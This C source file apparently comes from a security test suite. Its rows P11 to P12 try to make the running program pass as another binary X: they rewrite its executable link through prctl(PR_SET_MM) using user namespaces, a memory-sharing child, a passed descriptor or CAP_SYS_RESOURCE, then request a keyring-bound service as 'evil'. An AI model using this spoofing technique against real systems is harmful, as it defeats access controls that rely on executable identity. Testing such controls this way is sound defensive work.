// SPDX-License-Identifier: GPL-2.0
/*
 * set-exe: attacks that make X the executable of a program that is not X, by prctl(2).
 *
 *	set-exe ROW WHAT [COMMAND...]
 *
 * P11	from a user namespace, staying inside
 * P11b	from a child in a user namespace, which shares the memory; who asks was never inside
 * P11c	the same with a descriptor of X that COMMAND... sends to its descriptor 3
 * P12	with CAP_SYS_RESOURCE
 *
 * On stderr it says with which flags the descriptor of X is open, and what the kernel then thinks
 * this program is.
 *
 * gcc: -static
 */
#define _GNU_SOURCE
#include "attack.h"

#include <linux/prctl.h>

#include "ask.h"

/* The kernel wants addresses that make sense; nobody needs them to be the old ones. */
static int set_mm_map(void *arg)
{
	const unsigned long brk = (unsigned long)sbrk(0), code = (unsigned long)set_mm_map;
	struct prctl_mm_map map = {
		.start_code = code, .end_code = code + 1,
		.start_data = code, .end_data = code + 1,
		.start_brk = brk, .brk = brk,
		.start_stack = (unsigned long)&map,
		.arg_start = code, .arg_end = code + 1,
		.env_start = code, .env_end = code + 1,
		.exe_fd = *(int *)arg,
	};

	check("PR_SET_MM_MAP", prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0));
	return 0;
}

static void set_from_child(int fd)
{
	static char stack[65536] __attribute__((aligned(16)));
	int status;
	pid_t child;

	child = check("clone", clone(set_mm_map, stack + sizeof(stack),
				     CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, &fd));
	check("waitpid", waitpid(child, &status, 0));
	if (status)
		exit(1);	/* the child has said why */
}

/* Run a command that sends us a descriptor. */
static int descriptor_from(char **command)
{
	int pair[2];

	check("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
	if (!check("fork", fork())) {
		if (pair[1] == 3)
			fcntl(3, F_SETFD, 0);
		else
			check("dup2", dup2(pair[1], 3));
		execv(command[0], command);
		failed("exec");
	}
	close(pair[1]);
	return receive_fd(pair[0]);
}

static void show_flags(int fd)
{
	char path[64], line[128];
	FILE *info;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	info = fopen(path, "r");
	while (info && fgets(line, sizeof(line), info))
		if (!strncmp(line, "flags:", 6))
			fputs(line, stderr);
	if (info)
		fclose(info);
}

int main(int argc, char **argv)
{
	const char *row = argv[1];
	char name[256] = "";
	int fd;

	alarm(20);
	if (argc < 3) {
		fprintf(stderr, "usage: set-exe ROW WHAT [COMMAND...]\n");
		return 2;
	}
	if (!strcmp(row, "P11c"))
		fd = descriptor_from(argv + 3);
	else
		fd = check("open", open(X, O_RDONLY));
	show_flags(fd);

	forget_executable();	/* else the kernel refuses: EBUSY */
	if (!strcmp(row, "P11")) {
		enter_user_ns(0);
		set_mm_map(&fd);
	} else if (!strcmp(row, "P12")) {
		check("PR_SET_MM_EXE_FILE", prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0));
	} else {
		set_from_child(fd);
	}
	check("readlink", readlink("/proc/self/exe", name, sizeof(name) - 1));
	fprintf(stderr, "executable: %s\n", name);

	ask("evil", argv[2], ASK_PROCESS_KEYRING);
	return 0;
}
